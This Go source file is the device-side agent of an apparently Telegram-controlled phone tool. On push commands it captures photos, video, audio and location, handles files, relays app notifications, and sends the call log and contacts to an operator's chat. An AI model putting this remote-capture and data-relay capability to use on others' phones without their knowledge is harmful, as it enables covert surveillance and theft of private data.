// Package agent is the device-side core: it receives push payloads,
// executes the corresponding local action, and reports results back
// through the chat transport.
//
// Platform specifics (camera, call log provider, contact book, app
// labels) are injected as narrow interfaces so the core stays testable;
// the notification and call logs live in the history package over the
// device's key-value store.
package agent

import (
	"context"
	"fmt"
	"log/slog"
	"sort"
	"strings"

	lru "github.com/hashicorp/golang-lru/v2"
	"github.com/mymmrac/telego"

	"github.com/nextlevelbuilder/pushclaw/internal/command"
	"github.com/nextlevelbuilder/pushclaw/internal/history"
	"github.com/nextlevelbuilder/pushclaw/internal/store"
)

// Capturer executes device actions that are outside this core: media
// capture, ringing, vibration and filesystem operations.
type Capturer interface {
	Capture(ctx context.Context, cmd *command.Command) error
}

// CallLogSource yields the system call log in descending date order.
type CallLogSource interface {
	Scan(ctx context.Context) ([]history.Call, error)
}

// Contact is one address-book entry.
type Contact struct {
	Name    string
	Numbers []string
}

// ContactSource yields the address book sorted by display name.
type ContactSource interface {
	Contacts(ctx context.Context) ([]Contact, error)
}

// AppDirectory resolves an app package id to its display label.
// Implementations should fall back to the package id itself.
type AppDirectory interface {
	Label(pkg string) string
}

// Responder sends replies back to the operator's chat.
type Responder interface {
	SendMessage(ctx context.Context, chatID, text string) error
	SendKeyboard(ctx context.Context, chatID, text string, kb *telego.InlineKeyboardMarkup) error
}

// Message is one outbound reply produced by a handler. Handlers build
// ordered Message slices; Handle walks and sends them, so stopping
// early is simply not consuming the rest.
type Message struct {
	Text     string
	Keyboard *telego.InlineKeyboardMarkup
}

// Agent wires the device state to the chat transport.
type Agent struct {
	notiLog  *history.Log[history.Notification]
	callLog  *history.Log[history.Call]
	allow    *Allowlist
	exports  *ExportRing
	resp     Responder
	capturer Capturer
	calls    CallLogSource
	contacts ContactSource

	apps   AppDirectory
	labels *lru.Cache[string, string]
}

func New(kv store.KV, resp Responder, capturer Capturer, calls CallLogSource, contacts ContactSource, apps AppDirectory) *Agent {
	labels, _ := lru.New[string, string](256)
	return &Agent{
		notiLog:  history.NewNotificationLog(kv),
		callLog:  history.NewCallLog(kv),
		allow:    NewAllowlist(kv),
		exports:  NewExportRing(kv),
		resp:     resp,
		capturer: capturer,
		calls:    calls,
		contacts: contacts,
		apps:     apps,
		labels:   labels,
	}
}

// label resolves and caches an app's display label.
func (a *Agent) label(pkg string) string {
	if l, ok := a.labels.Get(pkg); ok {
		return l
	}
	l := pkg
	if a.apps != nil {
		if resolved := a.apps.Label(pkg); resolved != "" {
			l = resolved
		}
	}
	a.labels.Add(pkg, l)
	return l
}

// sortByLabel orders package ids by their lowercased display label.
func (a *Agent) sortByLabel(pkgs []string) {
	sort.Slice(pkgs, func(i, j int) bool {
		return strings.ToLower(a.label(pkgs[i])) < strings.ToLower(a.label(pkgs[j]))
	})
}

// HandlePayload decodes one push payload and executes it. Each payload
// is one independent unit of work; units for different owners may run
// concurrently.
func (a *Agent) HandlePayload(ctx context.Context, payload map[string]string) error {
	cmd, err := command.FromPayload(payload)
	if err != nil {
		slog.Warn("unparsable push payload", "error", err)
		return nil
	}
	return a.Handle(ctx, cmd)
}

// Handle executes one command and sends its replies.
func (a *Agent) Handle(ctx context.Context, cmd *command.Command) error {
	var msgs []Message
	var err error

	switch cmd.Kind {
	case command.Photo, command.Video, command.Audio, command.Location,
		command.Ring, command.Vibrate,
		command.List, command.File, command.Recv, command.Del, command.Send:
		if a.capturer == nil {
			return fmt.Errorf("no capturer for %s", cmd.Kind)
		}
		if err := a.capturer.Capture(ctx, cmd); err != nil {
			slog.Warn("capture action failed", "type", cmd.Kind, "error", err)
		}
		return nil

	case command.NotiMenu:
		msgs, err = a.notiMenu(ctx)
	case command.NotiAdd:
		msgs, err = a.appPicker(ctx, pickerAdd, -1)
	case command.NotiAddPickNav:
		msgs, err = a.appPicker(ctx, pickerAdd, cmd.Page)
	case command.NotiAddPick:
		msgs, err = a.addApp(ctx, cmd.Package)
	case command.NotiRemove:
		msgs, err = a.appPicker(ctx, pickerRemove, -1)
	case command.NotiRemovePickNav:
		msgs, err = a.appPicker(ctx, pickerRemove, cmd.Page)
	case command.NotiRemovePick:
		msgs, err = a.removeApp(ctx, cmd.Package)
	case command.NotiPick:
		msgs, err = a.sendNotifications(ctx, cmd.Package)
	case command.NotiClear:
		msgs, err = a.appPicker(ctx, pickerClear, -1)
	case command.NotiClearPickNav:
		msgs, err = a.appPicker(ctx, pickerClear, cmd.Page)
	case command.NotiClearPick:
		msgs, err = a.clearApp(ctx, cmd.Package)
	case command.NotiExport:
		msgs, err = a.appPicker(ctx, pickerExport, -1)
	case command.NotiExportPickNav:
		msgs, err = a.appPicker(ctx, pickerExport, cmd.Page)
	case command.NotiExportPick:
		msgs, err = a.exportNotifications(ctx, cmd.Package)
	case command.CallLogs:
		msgs, err = a.dumpCallLogs(ctx)
	case command.Contacts:
		msgs, err = a.dumpContacts(ctx)
	default:
		slog.Warn("unhandled command", "type", cmd.Kind)
		return nil
	}

	if err != nil {
		return err
	}
	return a.send(ctx, cmd.ChatID, msgs)
}

func (a *Agent) send(ctx context.Context, chatID string, msgs []Message) error {
	for _, m := range msgs {
		var err error
		if m.Keyboard != nil {
			err = a.resp.SendKeyboard(ctx, chatID, m.Text, m.Keyboard)
		} else {
			err = a.resp.SendMessage(ctx, chatID, m.Text)
		}
		if err != nil {
			return fmt.Errorf("send reply: %w", err)
		}
	}
	return nil
}

// Notifications returns the stored history for one app, newest first.
func (a *Agent) Notifications(ctx context.Context, pkg string) []history.Notification {
	return a.notiLog.List(ctx, pkg)
}

// AllowedApps returns the packages allowed for relay.
func (a *Agent) AllowedApps(ctx context.Context) []string {
	return a.allow.List(ctx)
}

// RecordNotification stores one posted notification and then picks up
// any call log entries newer than the stored watermark. Capture events
// double as the call-log sync trigger.
func (a *Agent) RecordNotification(ctx context.Context, pkg string, n history.Notification) error {
	if _, err := a.notiLog.Append(ctx, pkg, n); err != nil {
		return err
	}
	a.SyncCallLog(ctx)
	return nil
}

// OnListenerConnected runs the call-log sync when the capture listener
// (re)attaches, typically at boot.
func (a *Agent) OnListenerConnected(ctx context.Context) {
	a.SyncCallLog(ctx)
}

// SyncCallLog scans the call log source and appends entries newer than
// the stored watermark. Errors are logged: the capture path never fails
// on sync problems.
func (a *Agent) SyncCallLog(ctx context.Context) {
	if a.calls == nil {
		return
	}
	entries, err := a.calls.Scan(ctx)
	if err != nil {
		slog.Warn("call log scan failed", "error", err)
		return
	}
	i := 0
	added, err := a.callLog.SyncDescending(ctx, history.CallOwner, func() (history.Call, bool) {
		if i >= len(entries) {
			return history.Call{}, false
		}
		e := entries[i]
		i++
		return e, true
	})
	if err != nil {
		slog.Warn("call log sync failed", "error", err)
		return
	}
	if added > 0 {
		slog.Debug("call log synced", "added", added)
	}
}
